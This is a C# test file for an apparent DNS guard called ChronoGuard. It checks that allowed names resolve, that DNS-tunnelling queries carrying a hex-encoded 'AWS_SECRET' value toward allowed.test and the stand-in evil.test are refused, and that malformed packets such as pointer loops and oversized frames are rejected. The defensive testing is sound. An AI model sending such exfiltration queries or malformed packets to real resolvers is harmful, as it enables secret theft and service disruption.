using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Text;
using ChronoGuard.Audit;
using ChronoGuard.Proxy;
using ChronoGuard.Tests.Support;

namespace ChronoGuard.Tests.Resolution;

/// <summary>
/// The DNS guard as a pod gets it (SPEC §10): in a private network namespace with the rules of
/// deploy/init/chronoguard-init.sh, the agent's resolver traffic (/etc/resolv.conf names
/// 127.0.0.53, where the fake upstream listens) is redirected to the guard on port 15053; only what
/// the guard forwards reaches the upstream. Real clients (dig, kdig) and hostile bytes from sockets
/// inside the namespace; each refusal is in the audit log after a clean stop.
/// </summary>
public sealed class DnsCaptureNamespaceTests
{
    private const string Policies = """[ { "name": "p", "allowedDomains": ["allowed.test"] } ]""";
    private static readonly string[] Zone = ["allowed.test|A|300|127.0.0.2", "allowed.test|TXT|300|\"v=spf1 -all\"", "evil.test|A|300|127.0.0.66"];

    [NamespaceFact]
    public async Task Dig_through_the_system_resolver_is_answered_by_the_guard_for_an_allowed_name_and_refused_for_another()
    {
        await ExternalTools.EnsureAsync("dig");
        await using var rig = await CaptureRig.StartAsync(Policies, transparent: false, Zone);

        var (code, allowed) = await rig.Namespace.RunAsync("dig", ["+short", "allowed.test", "A"]);
        Assert.True(code == 0, allowed);
        Assert.Equal("127.0.0.2", allowed.Trim());
        (_, var refused) = await rig.Namespace.RunAsync("dig", ["evil.test", "A"]);
        Assert.Contains("status: NXDOMAIN", refused, StringComparison.Ordinal);
        // The answer came from the guard: the resolver resolv.conf names was asked only what the guard forwarded.
        Assert.Contains("SERVER: 127.0.0.53#53", refused, StringComparison.Ordinal);

        var records = await rig.StopAsync();
        Assert.Equal(["udp allowed.test A"], rig.Upstream.Questions);
        var record = Assert.Single(records);
        Assert.Equal(("DNS", "BLOCK", ProxyReasons.DnsNameRefused, "evil.test", "bot", "A"), (record.Method, record.Decision, record.Reason, record.Host, record.Agent, record.Path));
    }

    [NamespaceFact]
    public async Task A_TXT_query_carrying_data_is_refused_and_never_reaches_the_upstream_over_UDP_or_TCP()
    {
        await ExternalTools.EnsureAsync("dig", "kdig");
        await using var rig = await CaptureRig.StartAsync(Policies, transparent: false, Zone);
        var secret = Convert.ToHexStringLower(Encoding.ASCII.GetBytes("AWS_SECRET=abc123"));

        // Data in the name of an allowed zone, in a type the policy does not list, over UDP and over TCP.
        (_, var udp) = await rig.Namespace.RunAsync("dig", [$"{secret}.allowed.test", "TXT"]);
        Assert.Contains("status: NXDOMAIN", udp, StringComparison.Ordinal);
        (_, var tcp) = await rig.Namespace.RunAsync("kdig", ["+tcp", "allowed.test", "TXT"]);
        Assert.Contains("NXDOMAIN", tcp, StringComparison.Ordinal);
        Assert.Contains("TCP", tcp, StringComparison.Ordinal);
        (_, var other) = await rig.Namespace.RunAsync("kdig", ["+tcp", $"{secret}.evil.test", "A"]);
        Assert.Contains("NXDOMAIN", other, StringComparison.Ordinal);
        // kdig over TCP is forwarded when allowed: the TCP path is the guard's, not a hole.
        var (code, allowed) = await rig.Namespace.RunAsync("kdig", ["+tcp", "+short", "allowed.test", "A"]);
        Assert.True(code == 0, allowed);
        Assert.Equal("127.0.0.2", allowed.Trim());

        var records = await rig.StopAsync();
        Assert.Equal(["udp allowed.test A"], rig.Upstream.Questions);
        Assert.Equal(
            [(ProxyReasons.DnsTypeRefused, $"{secret}.allowed.test", "TXT"), (ProxyReasons.DnsTypeRefused, "allowed.test", "TXT"), (ProxyReasons.DnsNameRefused, $"{secret}.evil.test", "A")],
            records.Select(r => (r.Reason, r.Host, r.Path)));
        Assert.All(records, r => Assert.Equal(("DNS", "BLOCK", "bot"), (r.Method, r.Decision, r.Agent)));
    }

    [NamespaceFact]
    public async Task Hostile_DNS_bytes_sent_to_the_redirected_port_53_are_refused_and_recorded_and_the_guard_keeps_answering()
    {
        await ExternalTools.EnsureAsync("dig");
        await using var rig = await CaptureRig.StartAsync(Policies, transparent: false, Zone);
        var port53 = new IPEndPoint(IPAddress.Parse("127.0.0.2"), 53); // any address: port 53 is the guard's

        var loop = Header(0x1001).Concat(new byte[] { 0xC0, 12, 0, 1, 0, 1 }).ToArray(); // a name that points at itself
        var chain = Header(0x1002).ToList(); // pointer to pointer to ... to a label
        for (var i = 0; i < 100; i++)
        {
            chain.AddRange([(byte)(0xC0 | ((12 + (2 * (i + 1))) >> 8)), (byte)(12 + (2 * (i + 1)))]);
        }

        chain.AddRange([7, .. "allowed"u8, 4, .. "test"u8, 0, 0, 1, 0, 1]);
        var cut = Header(0x1003).Concat(new byte[] { 7, (byte)'a', (byte)'l', (byte)'l' }).ToArray(); // the question ends mid-label
        var longName = Header(0x1004).Concat(Enumerable.Range(0, 5).SelectMany(_ => new byte[] { 63 }.Concat(Enumerable.Repeat((byte)'x', 63)))).Concat(new byte[] { 0, 0, 1, 0, 1 }).ToArray();
        var oversized = Header(0x1005).Concat(Enumerable.Repeat((byte)0xFF, 60_000)).ToArray();

        var udpAnswers = new List<byte[]>();
        foreach (var message in new[] { loop, chain.ToArray(), cut, longName, oversized })
        {
            udpAnswers.Add(await AskUdpAsync(rig.Namespace, port53, message));
        }

        // Shorter than a header: dropped, so no answer; the guard records it and keeps serving.
        using (var shortUdp = rig.Namespace.Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp))
        {
            await shortUdp.SendToAsync(new byte[] { 0x12, 0x34, 1, 0, 0, 1, 0 }, port53);
        }

        // Over TCP: a frame that announces more than it sends, then the peer leaves; and a 65535-byte frame of junk.
        await SendTcpAsync(rig.Namespace, port53, [0x40, 0x00, .. Header(0x2001)]);
        var junk = await SendTcpAsync(rig.Namespace, port53, [0xFF, 0xFF, .. Header(0x2002), .. Enumerable.Repeat((byte)0xFF, 65535 - 12)]);

        var (code, allowed) = await rig.Namespace.RunAsync("dig", ["+short", "allowed.test", "A"]);
        Assert.True(code == 0, allowed);
        Assert.Equal("127.0.0.2", allowed.Trim());

        var records = await rig.StopAsync();
        // Only the one real question left the namespace.
        Assert.Equal(["udp allowed.test A"], rig.Upstream.Questions);
        foreach (var (answer, id) in udpAnswers.Zip(new ushort[] { 0x1001, 0x1002, 0x1003, 0x1004, 0x1005 }))
        {
            Assert.Equal(id, BinaryPrimitives.ReadUInt16BigEndian(answer));
            Assert.True((answer[2] & 0x80) != 0, "an answer");
            Assert.NotEqual(0, answer[3] & 0x0F); // an error rcode, never NOERROR
            Assert.Equal(0, BinaryPrimitives.ReadUInt16BigEndian(answer.AsSpan(6))); // no answer records
        }

        Assert.True(junk.Length == 0 || (junk[5] & 0x0F) != 0, "the junk TCP frame got no NOERROR answer");
        Assert.All(records, r => Assert.Equal(("DNS", "BLOCK", "bot"), (r.Method, r.Decision, r.Agent)));
        Assert.True(records.Count(r => r.Reason == ProxyReasons.DnsMalformed) >= 6, string.Join("\n", records.Select(r => $"{r.Reason} {r.Host} {r.Path}")));
        Assert.DoesNotContain(records, r => r.Decision != "BLOCK");
    }

    private static byte[] Header(ushort id) => [(byte)(id >> 8), (byte)id, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];

    private static async Task<byte[]> AskUdpAsync(NetNamespace ns, IPEndPoint to, byte[] message)
    {
        using var socket = ns.Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        await socket.ConnectAsync(to);
        await socket.SendAsync(message);
        var buffer = new byte[65535];
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        var n = await socket.ReceiveAsync(buffer, deadline.Token);
        return buffer[..n];
    }

    /// <summary>Sends a TCP DNS frame, closes the sending side, and returns whatever came back before the guard closed.</summary>
    private static async Task<byte[]> SendTcpAsync(NetNamespace ns, IPEndPoint to, byte[] frame)
    {
        using var socket = ns.Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        await socket.ConnectAsync(to);
        await socket.SendAsync(frame);
        socket.Shutdown(SocketShutdown.Send);
        using var received = new MemoryStream();
        var buffer = new byte[65537];
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        try
        {
            int n;
            while ((n = await socket.ReceiveAsync(buffer, deadline.Token)) > 0)
            {
                received.Write(buffer, 0, n);
            }
        }
        catch (SocketException)
        {
        }

        return received.ToArray();
    }
}
